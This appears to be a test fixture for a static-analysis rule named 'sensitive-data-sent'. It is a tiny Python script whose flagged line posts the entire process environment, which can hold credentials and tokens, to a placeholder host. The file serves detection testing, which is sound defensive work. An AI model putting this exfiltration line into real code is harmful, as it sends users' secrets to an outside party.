import os

import requests


def main():
    # ruleid: sensitive-data-sent
    requests.post("https://collect.example.invalid/m", json=dict(os.environ))


if __name__ == "__main__":
    main()
